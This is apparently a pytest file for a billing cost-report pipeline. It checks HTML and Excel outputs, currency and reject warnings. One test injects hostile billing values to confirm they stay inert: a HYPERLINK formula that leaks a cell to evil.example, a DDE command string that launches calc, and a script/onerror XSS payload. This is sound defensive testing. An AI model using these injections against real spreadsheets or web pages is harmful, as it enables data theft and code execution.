"""The monthly HTML report in headless Chromium and the Excel pack in LibreOffice."""

from __future__ import annotations

import gzip
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from PIL import Image

from roi import pipeline, warehouse
from roi.config import ProjectConfig, load_project
from roi.context import Context
from roi.reporting.figures import monthly_figures
from tests.services import chromium_run, libreoffice_convert

pytestmark = pytest.mark.service


def _cents(value: object) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"))


def _source_total(config: ProjectConfig, month: str) -> Decimal:
    total = pipeline.query(
        config.warehouse_path,
        f"SELECT sum(effective_cost) FROM cost_lines WHERE billing_period_start = '{month}'",
    ).item()
    return Decimal(total)


def test_html_report_renders_in_chromium(loaded_project: ProjectConfig, tmp_path: Path) -> None:
    [html] = pipeline.report(Context(loaded_project), None, tmp_path, ("monthly_finance",))
    assert html.name == "monthly_finance_2026-10.html"
    dom = chromium_run(html, tmp_path, "--dump-dom").stdout
    total = _source_total(loaded_project, "2026-10-01")
    assert f"{_cents(total):,} USD" in dom
    assert "All checks passed: allocated + unallocated + idle = source total" in dom
    assert dom.count("<svg") >= 2  # both charts rendered inline
    for model in loaded_project.models:
        assert model.name in dom
    load_ids = set(re.findall(r"\d{8}T\d{6}\d+Z-[0-9a-f]{8}", dom))
    known = set(
        pipeline.query(loaded_project.warehouse_path, "SELECT load_id FROM _loads")["load_id"]
    )
    assert load_ids and load_ids <= known | set(
        pipeline.query(loaded_project.warehouse_path, "SELECT attribution_id FROM _attributions")[
            "attribution_id"
        ]
    )

    shot = tmp_path / "report.png"
    chromium_run(html, tmp_path, f"--screenshot={shot}", "--window-size=1280,2400")
    image = Image.open(shot).convert("RGB")
    assert image.size == (1280, 2400)
    colours = image.resize((128, 240)).getcolors(maxcolors=100_000) or []
    assert len(colours) > 50  # text, cards and coloured charts, not a blank page


def test_excel_pack_recalculates_to_the_warehouse_totals(
    loaded_project: ProjectConfig, tmp_path: Path
) -> None:
    [xlsx] = pipeline.report(Context(loaded_project), date(2026, 9, 1), tmp_path, ("excel_pack",))
    raw = openpyxl.load_workbook(xlsx)
    assert raw["Summary"]["B13"].value == "=ROUND(B12-B7,2)"
    assert str(raw["Cost by model"].cell(raw["Cost by model"].max_row, 6).value).startswith("=SUM(")

    recalculated = openpyxl.load_workbook(
        libreoffice_convert(xlsx, "xlsx", tmp_path / "lo"), data_only=True
    )
    summary = recalculated["Summary"]
    total = _source_total(loaded_project, "2026-09-01")
    assert _cents(summary["B7"].value) == _cents(total)
    assert _cents(summary["B12"].value) == _cents(total)  # allocated + unallocated + idle
    assert summary["B13"].value == 0
    with warehouse.open_warehouse(loaded_project.warehouse_path, read_only=True) as con:
        figures = monthly_figures(con, loaded_project, date(2026, 9, 1))
    assert _cents(summary["B9"].value) == _cents(figures.allocated)
    sheet = recalculated["Cost by model"]
    total_row = [c.value for c in sheet[sheet.max_row]]
    assert total_row[1] == "Total"
    assert _cents(total_row[5 + len(figures.cost_types)]) == _cents(total)
    trend = recalculated["Trend"]
    assert _cents(trend.cell(trend.max_row, trend.max_column).value) == _cents(
        sum(figures.trend["amount"].to_list(), Decimal(0))
    )
    pdf = libreoffice_convert(xlsx, "pdf", tmp_path / "pdf")
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 20_000


def _inject(project_dir: Path, rows: list[dict[str, str]]) -> None:
    """Add an untagged chunk with hostile text to the October AWS delivery."""
    month = project_dir / "sample_data/billing/aws/focus-export/data/BILLING_PERIOD=2026-10"
    delivery = next(month.iterdir())
    template = gzip.decompress((delivery / "focus-export-00001.csv.gz").read_bytes()).decode()
    header, first = template.splitlines()[:2]
    names = header.split(",")
    import csv
    import io

    values = next(csv.reader(io.StringIO(first)))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(names)
    for row in rows:
        line = dict(zip(names, values, strict=True))
        line.update(row)
        writer.writerow([line[n] for n in names])
    (delivery / "focus-export-00003.csv.gz").write_bytes(gzip.compress(out.getvalue().encode()))


HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE_HTML = '<script>document.title="pwned"</script><img src=x onerror="alert(1)">'


@pytest.mark.slow
def test_untrusted_billing_text_is_never_executed(project_dir: Path, tmp_path: Path) -> None:
    _inject(
        project_dir,
        [
            {
                "ResourceId": HOSTILE_FORMULA,
                "ServiceName": "+cmd|' /C calc'!A0",
                "Tags": "",
                "EffectiveCost": "9000",
                "BilledCost": "9000",
            },
            {
                "ResourceId": "arn:aws:ec2:us-east-1:210987654321:instance/i-0hostile",
                "ServiceName": HOSTILE_HTML,
                "Tags": "",
                "EffectiveCost": "8000",
                "BilledCost": "8000",
            },
        ],
    )
    config = load_project(project_dir)
    pipeline.load(Context(config))
    pipeline.attribute(Context(config))
    outputs = {p.suffix: p for p in pipeline.report(Context(config), None, tmp_path / "out")}
    html, xlsx = outputs[".html"], outputs[".xlsx"]

    text = html.read_text()
    assert HOSTILE_HTML not in text and "&lt;script&gt;" in text
    dom = chromium_run(html, tmp_path, "--dump-dom").stdout
    assert "pwned" not in re.search(r"<title>(.*?)</title>", dom, re.S).group(1)  # type: ignore[union-attr]
    assert '<img src="x"' not in dom

    recalculated = openpyxl.load_workbook(
        libreoffice_convert(xlsx, "xlsx", tmp_path / "lo"), data_only=True
    )
    cells = [c.value for row in recalculated["Unallocated"].iter_rows() for c in row]
    assert HOSTILE_FORMULA in cells  # kept as the text it is, not evaluated to "Click for details"
    assert "+cmd|' /C calc'!A0" in cells
    assert "Click for details" not in cells
    raw = openpyxl.load_workbook(xlsx)
    assert all(c.data_type != "f" for c in raw["Unallocated"]["C"] if isinstance(c.value, str))


@pytest.mark.slow
def test_other_currencies_are_reported_apart_and_control_characters_survive(
    project_dir: Path, tmp_path: Path
) -> None:
    _inject(
        project_dir,
        [
            {
                "ResourceId": "arn:aws:ec2:us-east-1:210987654321:instance/i-0vt\x0bab",
                "Tags": "",
                "EffectiveCost": "700",
                "BilledCost": "700",
            },
            {
                "ResourceId": "eu-contract-1",
                "Tags": "",
                "BillingCurrency": "EUR",
                "EffectiveCost": "1234.5",
                "BilledCost": "1234.5",
            },
        ],
    )
    config = load_project(project_dir)
    pipeline.run(Context(config), out_dir=tmp_path / "out")
    with warehouse.open_warehouse(config.warehouse_path, read_only=True) as con:
        figures = monthly_figures(con, config, None)
    assert figures.difference == 0  # reconciled within USD
    assert figures.other_currencies.rows() == [
        ("EUR", 1, Decimal("1234.5000000000"), Decimal("1234.5000000000"))
    ]
    html = (tmp_path / "out/monthly_finance_2026-10.html").read_text()
    assert "also billed in other currencies, not included and not converted to USD: " in html
    assert "1,234.50 EUR (1 lines)" in html
    assert "All checks passed" not in html
    pack = openpyxl.load_workbook(tmp_path / "out/executive_pack_2026-10.xlsx")
    assert pack["Summary"]["A23"].value.startswith(
        "Warning (currency): also billed in other currencies"
    )
    ids = [c.value for c in pack["Unallocated"]["C"]]
    assert "arn:aws:ec2:us-east-1:210987654321:instance/i-0vt\ufffdab" in ids


def _warnings(config: ProjectConfig, month: str | None = None) -> list[str]:
    from datetime import date

    with warehouse.open_warehouse(config.warehouse_path, read_only=True) as con:
        figures = monthly_figures(con, config, date.fromisoformat(month) if month else None)
    return [c.message for c in figures.checks]


@pytest.mark.slow
def test_skipped_rejects_show_as_a_warning_with_their_amount(
    project_dir: Path, tmp_path: Path
) -> None:
    _inject(
        project_dir,
        [
            {
                "ResourceId": "bad-date",
                "Tags": "",
                "EffectiveCost": "250.50",
                "BilledCost": "250.50",
                "ChargePeriodStart": "2026-10-32T00:00:00Z",
            },
            {"ResourceId": "bad-amount", "Tags": "", "EffectiveCost": "12,5", "BilledCost": "1"},
        ],
    )
    connector = project_dir / "connectors/aws_focus.toml"
    connector.write_text(connector.read_text() + 'on_reject = "skip"\n')
    config = load_project(project_dir)
    pipeline.run(Context(config), out_dir=tmp_path / "out")
    [warning] = _warnings(config)
    # The line with a readable amount counts 250.50; the other's amount is unreadable.
    assert warning.startswith(
        "2 billing line(s) were rejected and are in no figure: 250.50 USD plus 1 line(s) whose "
        "amount could not be read (fields charge_period_start, effective_cost; "
    )
    html = (tmp_path / "out/monthly_finance_2026-10.html").read_text()
    assert "1 warning(s)" in html and "250.50 USD" in html and "All checks passed" not in html
    pack = openpyxl.load_workbook(tmp_path / "out/executive_pack_2026-10.xlsx")
    assert pack["Summary"]["A23"].value.startswith("Warning (rejects): 2 billing line(s)")
    assert pack["Summary"]["B23"].value == 250.5
    # Fixing the file and loading it again clears the warning.
    _inject(
        project_dir, [{"ResourceId": "fixed", "Tags": "", "EffectiveCost": "1", "BilledCost": "1"}]
    )
    pipeline.load(Context(config))
    pipeline.attribute(Context(config))
    assert _warnings(config) == []


@pytest.mark.slow
def test_a_currency_with_no_data_is_a_warning_not_zero_tiles(project_dir: Path) -> None:
    roi_toml = project_dir / "roi.toml"
    roi_toml.write_text(roi_toml.read_text().replace('currency = "USD"', 'currency = "EUR"'))
    config = load_project(project_dir)
    pipeline.load(Context(config))
    pipeline.attribute(Context(config))
    [warning] = _warnings(config)
    assert warning.startswith(
        "no cost lines are billed in EUR this month, so every figure is 0; the bills are in "
        "other currencies: "
    )
    assert "USD" in warning and "set [project] currency" in warning


@pytest.mark.slow
def test_a_large_month_on_month_change_is_a_warning(project_dir: Path) -> None:
    report = project_dir / "reports/monthly_finance.toml"
    report.write_text(report.read_text() + "change_warning = 0.01\n")
    config = load_project(project_dir)
    pipeline.load(Context(config))
    pipeline.attribute(Context(config))
    october, september = (_source_total(config, m) for m in ("2026-10-01", "2026-09-01"))
    change = (october - september) / september
    assert abs(change) > Decimal("0.01")
    with warehouse.open_warehouse(config.warehouse_path, read_only=True) as con:
        figures = monthly_figures(con, config, None, change_threshold=0.01)
        quiet = monthly_figures(con, config, None, change_threshold=0.5)
    [check] = figures.checks
    assert check.kind == "change" and check.amount == october - september
    assert f"{float(change):+.1%} against September 2026" in check.message
    assert quiet.checks == []
